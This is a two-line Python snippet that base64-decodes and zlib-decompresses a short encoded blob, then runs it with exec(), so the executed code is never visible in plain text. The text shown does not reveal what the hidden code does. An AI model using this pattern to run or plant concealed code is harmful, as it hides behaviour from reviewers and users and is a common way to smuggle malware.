import zlib, base64
exec(zlib.decompress(base64.b64decode(b'eJzLzE3NTczMsSooys9KTS4BAC1UBTo=')))
